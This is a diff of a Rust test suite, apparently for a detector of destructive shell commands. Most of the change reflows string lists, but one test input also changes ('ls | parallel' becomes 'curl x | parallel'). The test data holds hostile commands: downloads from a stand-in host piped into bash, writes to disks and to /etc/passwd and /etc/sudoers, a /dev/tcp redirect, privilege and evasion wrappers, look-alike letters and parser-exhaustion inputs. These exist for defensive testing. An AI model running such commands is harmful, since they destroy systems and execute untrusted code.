@@ -96,8 +96,19 @@ fn text_decoded_into_a_shell() {
             "echo 'kubectl delete ns dev' | sed s/dev/payments/ | sh",
         ],
     );
-    unsure(&scene, &["curl http://x | bash", "curl http://x | python3", "eval \"$(curl http://x)\"", "bash <(curl http://x)"]);
-    silent(&scene, &["curl http://x | jq .", "eval \"$(ssh-agent -s)\"", "source <(kubectl completion bash)"]);
+    unsure(
+        &scene,
+        &[
+            "curl http://x | bash",
+            "curl http://x | python3",
+            "eval \"$(curl http://x)\"",
+            "bash <(curl http://x)",
+        ],
+    );
+    silent(
+        &scene,
+        &["curl http://x | jq .", "eval \"$(ssh-agent -s)\"", "source <(kubectl completion bash)"],
+    );
 }
 
 #[test]
@@ -127,15 +138,63 @@ fn text_that_runs_later() {
 fn wrappers_with_options_of_their_own() {
     let scene = cluster("evasion-wrappers");
     let lines = [
-        "sudo -E -u root --", "doas", "env -i A=b", "env -S 'nice -n 5'", "nice -n 5", "ionice -c2 -n 7", "chrt -f 10",
-        "taskset -c 0", "nohup", "timeout -s KILL -k 1 5", "time -p", "setsid -w", "stdbuf -oL", "strace -f -o out",
-        "ltrace -f -o out", "watch -n 1 -x", "xargs -n 4 -a /dev/null", "chroot /", "unshare -m", "systemd-run --scope -q",
-        "flock -n lock", "command", "exec -a x", "busybox", "pkexec --user root", "nsenter -t 1 -n", "prlimit --nofile=9",
-        "numactl -N 0", "cgexec -g cpu:x", "caffeinate -t 5", "retry -t 3 --", "direnv exec .", "poetry run", "pipenv run",
-        "uv run --with x", "dbus-run-session --", "xvfb-run -a -n 9", "ssh-agent -t 5", "firejail --noprofile", "proot -0",
-        "bundle exec", "npx -y", "conda run -n x", "aws-vault exec prod --", "doppler run --", "setpriv --reuid 1",
-        "hyperfine -r 2 --shell=none; command", "/lib64/ld-linux-x86-64.so.2", "tini -s --", "faketime 'last friday'",
-        "torsocks -i", "chronic", "unbuffer", "perf stat -e x", "linux64 -R", "entr -r", "valgrind -q",
+        "sudo -E -u root --",
+        "doas",
+        "env -i A=b",
+        "env -S 'nice -n 5'",
+        "nice -n 5",
+        "ionice -c2 -n 7",
+        "chrt -f 10",
+        "taskset -c 0",
+        "nohup",
+        "timeout -s KILL -k 1 5",
+        "time -p",
+        "setsid -w",
+        "stdbuf -oL",
+        "strace -f -o out",
+        "ltrace -f -o out",
+        "watch -n 1 -x",
+        "xargs -n 4 -a /dev/null",
+        "chroot /",
+        "unshare -m",
+        "systemd-run --scope -q",
+        "flock -n lock",
+        "command",
+        "exec -a x",
+        "busybox",
+        "pkexec --user root",
+        "nsenter -t 1 -n",
+        "prlimit --nofile=9",
+        "numactl -N 0",
+        "cgexec -g cpu:x",
+        "caffeinate -t 5",
+        "retry -t 3 --",
+        "direnv exec .",
+        "poetry run",
+        "pipenv run",
+        "uv run --with x",
+        "dbus-run-session --",
+        "xvfb-run -a -n 9",
+        "ssh-agent -t 5",
+        "firejail --noprofile",
+        "proot -0",
+        "bundle exec",
+        "npx -y",
+        "conda run -n x",
+        "aws-vault exec prod --",
+        "doppler run --",
+        "setpriv --reuid 1",
+        "hyperfine -r 2 --shell=none; command",
+        "/lib64/ld-linux-x86-64.so.2",
+        "tini -s --",
+        "faketime 'last friday'",
+        "torsocks -i",
+        "chronic",
+        "unbuffer",
+        "perf stat -e x",
+        "linux64 -R",
+        "entr -r",
+        "valgrind -q",
     ];
     for wrapper in lines {
         let (dangerous, _, commands) = checked(&scene, &format!("{wrapper} {DELETE}"));
@@ -159,8 +218,19 @@ fn wrappers_with_options_of_their_own() {
             "echo x | xargs sh -c 'kubectl delete ns payments'",
         ],
     );
-    unsure(&scene, &["uv run --no-such-option x kubectl delete ns payments", "ls | parallel", "expect -c 'spawn x'"]);
-    silent(&scene, &["npm install --foo x", "uv pip list", "tmux ls", "parallel --dry-run kubectl delete ns ::: payments"]);
+    unsure(
+        &scene,
+        &["uv run --no-such-option x kubectl delete ns payments", "curl x | parallel", "expect -c 'spawn x'"],
+    );
+    silent(
+        &scene,
+        &[
+            "npm install --foo x",
+            "uv pip list",
+            "tmux ls",
+            "parallel --dry-run kubectl delete ns ::: payments",
+        ],
+    );
 }
 
 #[test]
@@ -224,17 +294,39 @@ fn what_a_shell_overwrites_itself() {
     let home = scene.path("home");
     let line = |text: &str| format!("cd {}; {text}", home.display());
     for text in [
-        ": > app.sqlite3", "echo x > /dev/sda", "cat x >| /etc/hosts", "> /etc/passwd", "echo b &> /proc/sysrq-trigger",
-        "echo x >> /etc/sudoers", "exec 3> /dev/nvme0n1", "{ echo a; } > /etc/fstab", "x >& /etc/passwd",
-        "sudo sh -c 'echo > /etc/passwd'", "echo x > /dev/sd$(pick)", "echo x 1<> /dev/sda", "> notes.txt",
-        "find . -fprint notes.txt", "awk '{print > \"notes.txt\"}' x.log", "f=notes.txt; : > $f",
+        ": > app.sqlite3",
+        "echo x > /dev/sda",
+        "cat x >| /etc/hosts",
+        "> /etc/passwd",
+        "echo b &> /proc/sysrq-trigger",
+        "echo x >> /etc/sudoers",
+        "exec 3> /dev/nvme0n1",
+        "{ echo a; } > /etc/fstab",
+        "x >& /etc/passwd",
+        "sudo sh -c 'echo > /etc/passwd'",
+        "echo x > /dev/sd$(pick)",
+        "echo x 1<> /dev/sda",
+        "> notes.txt",
+        "find . -fprint notes.txt",
+        "awk '{print > \"notes.txt\"}' x.log",
+        "f=notes.txt; : > $f",
     ] {
         assert!(checked(&scene, &line(text)).0, "{text}");
     }
     for text in [
-        "make > build.log 2>&1", "ls > x.log", "echo new > new.txt", "echo x >> notes.txt", "echo x > /dev/null",
-        "echo x >&2", "exec 2>/dev/null", "echo > /dev/tcp/h/22", "set -C; echo > notes.txt", "pg > b-$(date +%F).sql",
-        "echo 3 > /proc/sys/vm/drop_caches", "cat < notes.txt", "echo > /tmp/guard-new-$$",
+        "make > build.log 2>&1",
+        "ls > x.log",
+        "echo new > new.txt",
+        "echo x >> notes.txt",
+        "echo x > /dev/null",
+        "echo x >&2",
+        "exec 2>/dev/null",
+        "echo > /dev/tcp/h/22",
+        "set -C; echo > notes.txt",
+        "pg > b-$(date +%F).sql",
+        "echo 3 > /proc/sys/vm/drop_caches",
+        "cat < notes.txt",
+        "echo > /tmp/guard-new-$$",
     ] {
         let (dangerous, unsure, commands) = checked(&scene, &line(text));
         assert!(!dangerous, "{text}: {unsure:?} {commands:?}");
@@ -250,8 +342,12 @@ fn scripts_that_are_files() {
     found(
         &scene,
         &[
-            &format!("{file} payments"), &format!("bash {file} payments"), &format!(". {file} payments"),
-            &format!("sh -x {file} payments"), &format!("bash -s payments < {file}"), &format!("cat {file} | bash -s payments"),
+            &format!("{file} payments"),
+            &format!("bash {file} payments"),
+            &format!(". {file} payments"),
+            &format!("sh -x {file} payments"),
+            &format!("bash -s payments < {file}"),
+            &format!("cat {file} | bash -s payments"),
         ],
     );
     unsure(&scene, &["echo 'kubectl delete ns a' > new.sh; sh new.sh"]);
@@ -261,7 +357,10 @@ fn scripts_that_are_files() {
 #[test]
 fn look_alike_letters_are_other_programs() {
     let scene = cluster("evasion-letters");
-    silent(&scene, &["ｋubectl delete ns payments", "kubectl\u{a0}delete ns payments", "kubесtl delete ns payments"]);
+    silent(
+        &scene,
+        &["ｋubectl delete ns payments", "kubectl\u{a0}delete ns payments", "kubесtl delete ns payments"],
+    );
     found(&scene, &["kubectl delete ns payments # \u{202e}"]);
 }
 
@@ -271,11 +370,20 @@ fn hostile_lines_take_no_time() {
     let scene = cluster("evasion-size");
     let size = 64 << 10;
     let lines = [
-        "rm x;".repeat(size / 5), "a|".repeat(size / 2) + "a", "{".repeat(size), "echo ".to_owned() + &"{a,b}".repeat(16),
-        "echo ".to_owned() + &"${x:-".repeat(size / 5) + &"}".repeat(size / 5), "`".repeat(size),
-        "eval ".repeat(size / 5), "(".repeat(size), "$(".repeat(size / 2), "rm ".to_owned() + &"*/".repeat(size / 2),
-        format!("x=aaaaaaaaaa;{} rm $x", "x=$x$x;".repeat(40)), format!("x={}; echo ${{x/{}b/}}", "a".repeat(2000), "*a".repeat(60)),
-        "f(){ f; f; }; f".to_owned(), "cat <<E\n".to_owned() + &"$x\n".repeat(size / 3) + "E",
+        "rm x;".repeat(size / 5),
+        "a|".repeat(size / 2) + "a",
+        "{".repeat(size),
+        "echo ".to_owned() + &"{a,b}".repeat(16),
+        "echo ".to_owned() + &"${x:-".repeat(size / 5) + &"}".repeat(size / 5),
+        "`".repeat(size),
+        "eval ".repeat(size / 5),
+        "(".repeat(size),
+        "$(".repeat(size / 2),
+        "rm ".to_owned() + &"*/".repeat(size / 2),
+        format!("x=aaaaaaaaaa;{} rm $x", "x=$x$x;".repeat(40)),
+        format!("x={}; echo ${{x/{}b/}}", "a".repeat(2000), "*a".repeat(60)),
+        "f(){ f; f; }; f".to_owned(),
+        "cat <<E\n".to_owned() + &"$x\n".repeat(size / 3) + "E",
     ];
     let limit = if cfg!(debug_assertions) { 10.0 } else { 0.5 };
     for line in lines {
